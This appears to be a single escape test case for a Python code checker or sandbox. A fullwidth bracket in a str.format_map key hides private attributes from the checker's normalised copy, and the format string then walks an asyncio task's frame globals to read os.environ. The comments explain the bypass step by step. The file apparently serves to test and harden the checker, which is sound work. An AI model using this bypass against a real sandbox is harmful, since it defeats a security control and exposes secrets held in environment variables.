# family: introspect
# Escape: an asyncio Task keeps its coroutine in _coro (a dangerous private name in source) and the coroutine its
# frame in cr_frame. After "t［" the checker's NFKC copy reads "[" and skips to the first real "]", so _coro,
# cr_frame and f_globals are never judged; only public names (sys, modules, environ) follow. Python looks up the
# key "t［" and walks task -> coroutine -> frame -> module globals -> calendar.sys.modules["os"].environ.
import asyncio
import calendar
import random


async def work():
    await asyncio.sleep(0)
    return random.random()


async def main() -> str:
    task = asyncio.create_task(work())
    text = "{t［._coro.cr_frame.f_globals[calendar].sys.modules[os].environ}".format_map({"t［": task})
    await task
    return text


def tool() -> str:
    return asyncio.run(main())
